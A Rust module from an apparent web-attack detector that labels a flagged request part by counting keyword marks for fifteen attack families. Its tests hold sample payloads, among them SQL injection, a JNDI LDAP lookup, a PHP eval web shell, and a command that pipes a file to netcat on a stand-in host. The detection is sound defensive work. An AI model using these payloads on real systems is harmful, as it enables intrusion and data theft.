//! Which family of attacks a part that the model flagged looks most like. The model says that
//! something is wrong; this only names it, by marks that each family cannot do without.

use crate::{
    features::api::{Part, Place},
    patrol::ModelSays,
};

/// What nothing tells apart.
pub(super) const UNKNOWN: ModelSays<'static> =
    ModelSays { category: "web_attack", techniques: &["T1190"], what: "web attack" };

struct Family {
    says: ModelSays<'static>,
    marks: &'static [&'static str],
}

macro_rules! family {
    ($category:literal, $techniques:expr, $what:literal, $marks:expr) => {
        Family {
            says: ModelSays { category: $category, techniques: $techniques, what: $what },
            marks: $marks,
        }
    };
}

/// In the order in which they are tried when equally many marks are there.
const FAMILIES: [Family; 15] = [
    family!("jndi_injection", &["T1190", "T1059"], "JNDI lookup", &["jndi", "${lower", "${upper", "${::", "${env"]),
    family!("webshell", &["T1505.003", "T1190"], "web shell", &[
        "<?php", "<?=", "<%@", "eval($", "assert($", "system($_", "@eval", "getruntime", "$_post", "$_get", "<%="]),
    family!("xxe", &["T1190", "T1005"], "XML entity", &["<!entity", "<!doctype", "<xsl:", "xi:include"]),
    family!("deserialization", &["T1190", "T1059"], "serialised object", &[
        "java.", "javax.", "o:8:", "\"@type", "@type", "rowset", "objectdata", "ysoserial", ":\"stdclass", "com.sun"]),
    family!("template_injection", &["T1190", "T1059"], "template expression", &[
        "{{", "{%", "${", "#{", "*{", "__class__", "__globals__", "freemarker", "<#assign", "ognl", "#context"]),
    family!("ssi_injection", &["T1190", "T1059"], "server-side include", &["<!--#", "<esi:"]),
    family!("xss", &["T1059.007", "T1189"], "script in markup", &[
        "<script", "javascript:", "onerror", "onload", "alert(", "<svg", "<img", "<iframe", "document.",
        "onmouseover", "onfocus", "prompt(", "confirm(", "<body", "srcdoc", "<a ", "style="]),
    family!("path_traversal", &["T1083", "T1005"], "path traversal", &[
        "../", "..\\", "..;/", "/etc/", "passwd", "win.ini", "boot.ini", "/proc/self", "web.xml"]),
    family!("file_inclusion", &["T1190", "T1005"], "file inclusion", &[
        "php://", "file://", "data://", "expect://", "phar://", "zip://", ".txt?", "data:text"]),
    family!("nosql_injection", &["T1190"], "NoSQL operator", &["$ne", "$gt", "$where", "$regex", "$or", "$nin"]),
    family!("sql_injection", &["T1190", "T1213.006"], "SQL injection", &[
        "union", "select", "' or", "' and", " or ", " and ", "sleep(", "--", "information_schema",
        "order by", "/*", "benchmark", "waitfor", "having", "' ", "concat(", "1=1", "'='"]),
    family!("code_injection", &["T1190", "T1059"], "code", &[
        "eval(", "phpinfo", "base64_decode", "call_user_func", "import(", "require(", "child_process",
        "exec(", "system(", "processbuilder", "runtime", "print(md5"]),
    family!("command_injection", &["T1190", "T1059.004"], "command", &[
        ";", "|", "`", "$(", "&&", "/bin/", "wget", "curl", "whoami", "cat ", "ping ", "nslookup",
        "powershell", "cmd.exe", "sleep ", "bash", "() {"]),
    family!("ssrf", &["T1190", "T1552.005"], "request to an inner address", &[
        "169.254", "metadata", "gopher://", "dict://", "localhost", "127.0.0.1", "http://"]),
    family!("crlf_injection", &["T1190"], "header split", &["\r\n", "\nset-cookie", "\nlocation", "http/1."]),
];

/// The family with most marks in the part; a file that was sent is a web shell rather than code.
pub(super) fn of(part: &Part<'_>) -> ModelSays<'static> {
    let text = String::from_utf8_lossy(part.text).to_ascii_lowercase();
    let count = |family: &Family| family.marks.iter().filter(|mark| text.contains(**mark)).count();
    let mut best = (0, UNKNOWN);
    for family in &FAMILIES {
        let count = count(family);
        if count > best.0 {
            best = (count, family.says);
        }
    }
    if part.place == Place::Path && best.0 == 0 {
        return ModelSays { category: "sensitive_file", techniques: &["T1595.003", "T1083"], what: "probe" };
    }
    best.1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn families_are_named_by_their_marks() {
        for (text, wanted) in [
            ("<script>alert(1)</script>", "xss"),
            ("1' union select 1,2 -- ", "sql_injection"),
            ("../../../etc/passwd", "path_traversal"),
            ("${jndi:ldap://x/a}", "jndi_injection"),
            (";cat /etc/hostname|nc x 1", "command_injection"),
            ("{{7*7}}", "template_injection"),
            ("<?php eval($_POST[1]);?>", "webshell"),
            ("\u{1}\u{2}", "web_attack"),
        ] {
            let part = Part { place: Place::Value, origin: "query", name: b"", text: text.as_bytes() };
            assert_eq!(of(&part).category, wanted, "{text}");
        }
    }
}
